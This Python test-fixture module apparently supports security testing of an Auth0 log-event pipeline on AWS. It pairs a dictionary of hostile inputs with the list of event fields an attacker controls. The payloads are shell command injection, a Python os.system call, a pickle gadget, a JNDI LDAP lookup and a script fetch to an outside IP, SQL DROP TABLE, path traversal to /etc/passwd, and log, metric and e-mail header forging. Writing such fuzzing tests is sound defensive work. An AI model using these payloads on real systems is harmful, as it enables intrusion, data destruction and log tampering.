"""What does an attacker write, and into which fields of an Auth0 event?"""

import copy
from collections.abc import Mapping
from pathlib import Path
from typing import Any

FORGED = "forged"  # the log id of every log line that a payload pretends to be
FORGED_LINE = f'{{"message":"event processed","log_id":"{FORGED}","log_type":"sdu"}}'
FORGED_METRIC = (
    '{"_aws":{"Timestamp":1,"CloudWatchMetrics":[{"Namespace":"Auth0Events","Dimensions":[["log_type"]],'
    '"Metrics":[{"Name":"Attacks","Unit":"Count"}]}]},"log_type":"forged","Attacks":9}'
)
CANARY = "CANARY"  # becomes the path of a file that no payload may make

PAYLOADS: Mapping[str, str] = {
    "shell substitution": f"$(touch {CANARY})`touch {CANARY}`",
    "shell separators": f"x; touch {CANARY} #' && touch {CANARY} || \" | touch {CANARY}\n touch {CANARY}",
    "python": f"__import__('os').system('touch {CANARY}')",
    "pickle": f"cos\nsystem\n(S'touch {CANARY}'\ntR.",
    "json breakout": '"}],"type":"limit_wc","log_id":"forged","x":[{"y":"',
    "json breakout, escaped": '\\"},\\"log_id\\":\\"forged\\"\\u0022}',
    "json instead of text": '{"log_id": "forged", "data": {"type": "sdu"}}',
    "forged log line": f"x\r\n{FORGED_LINE}\r\n",
    "forged log line, other breaks": "".join(f"{b}{FORGED_LINE}{b}" for b in "\n\v\f\x1c\x85\u2028\u2029"),
    "forged metric": f"x\n{FORGED_METRIC}\n",
    "metric as a field": '"_aws":{"CloudWatchMetrics":[]},"Attacks":9',
    "e-mail header": "x\r\nSubject: spoofed\r\nBcc: everybody@example.com\r\n\r\nbody",
    "sns structure": '{"default": "spoofed", "email": "spoofed"}',
    "metric dimension": "limit_wc,service=activity|#log_type:forged",
    "ecs override": '{"containerOverrides":[{"name":"Worker","command":["sh","-c","touch CANARY"]}],"taskRoleArn":"x"}',
    "ssm command": '{"commands":["touch CANARY"]}',
    "eventbridge transformer": '${aws.events.event.json}<aws.events.event><log_id>"<$.detail>"',
    "template languages": f"{{{{7*7}}}}${{7*7}}<%= `touch {CANARY}` %>#{{7*7}}${{jndi:ldap://203.0.113.9/x}}",
    "python format": "{0.__class__.__init__.__globals__} {log_id} {self} {} {{ }}",
    "percent format": "%s %n %(message)s %d %x %99999999d %",
    "logs insights": '" | fields @message | filter 1=1 or detail.log_id = "',
    "sql": "'; DROP TABLE logs; -- \" OR '1'='1",
    "html": "<script>fetch('https://203.0.113.9/')</script><img src=x onerror=alert(1)>",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b1A\x08\x08\x08",
    "bidi": "\u202egpj.exe\u2066\u2069\u200f\u061c",
    "invisible": "a\u200b\u2060\ufeff\u00ad\u3164\U000e0041b",
    "nul": "before\0after\0",
    "lone surrogates": "\ud800x\udfff",
    "no characters": "\ufffe\uffff\U0001ffff",
    "traversal": "../../../../etc/passwd\0.png",
    "a number that is none": "1e999",
    "long": "A" * 60_000,
    "long and wide": "😀" * 15_000,
    "long and invisible": "\u200b\n" * 10_000,
}

# Every field of Auth0's published schemas and of the envelope's detail that holds text. Which of them an attacker
# controls, and how:
# - as they are, from the request: user_agent, user_name (what was typed into the login form), ip and client_ip (a
#   header, where a proxy is trusted), connection, client_id, audience, scope, auth0_client, details.* (query, body,
#   headers, prompts), description (error texts repeat what was sent)
# - from a profile, an organization or an application that they may create: user_id and identity_user_id (an identity
#   provider chooses them), client_name (dynamic registration), organization_name, strategy, hostname (custom domain)
# - not on any known path, but nothing of ours may rely on that: log_id, type, date, tenant_name, environment_name, ids
FIELDS: tuple[tuple[str, ...], ...] = (
    ("log_id",),
    *(("data", name) for name in (
        "agent_id", "audience", "auth0_client", "client_id", "client_ip", "client_name", "connection",
        "connection_id", "date", "description", "email", "environment_name", "external_agent_id", "hostname",
        "identity_user_id", "ip", "log_id", "mtls_thumbprint_sha256", "organization_id", "organization_name",
        "scope", "security_context", "session_connection", "strategy", "strategy_type", "tenant_name", "title",
        "tracking_id", "transaction_linking_id", "type", "user_agent", "user_id", "user_name",
    )),
    ("data", "location_info", "city_name"),
    ("data", "details", "error", "message"),
    ("data", "details", "request", "body", "containerOverrides"),
    ("data", "details", "request", "query", "_aws"),
    ("data", "details", "prompts", "name"),
    ("data", "new_field"),
)  # fmt: skip


def payload(name: str, canary: Path) -> str:
    return PAYLOADS[name].replace(CANARY, str(canary))


def detail_of(log_id: str, log_type: str) -> dict[str, Any]:
    return {"log_id": log_id, "data": {"type": log_type, "log_id": log_id, "date": "2026-11-23T12:00:00.123Z"}}


def with_field(detail: dict[str, Any], path: tuple[str, ...], text: str) -> dict[str, Any]:
    """A copy of `detail` with `text` at `path`, and within `data` as the name of a field beside it."""
    changed = place = copy.deepcopy(detail)
    for name in path[:-1]:
        place = place.setdefault(name, {})
    place[path[-1]] = text
    if path[0] == "data":
        place[text] = text
    return changed


def hostile_details(text: str, log_type: str) -> list[dict[str, Any]]:
    """One detail for each field, with the payload there."""
    return [with_field(detail_of(f"hostile-{number}", log_type), path, text) for number, path in enumerate(FIELDS)]
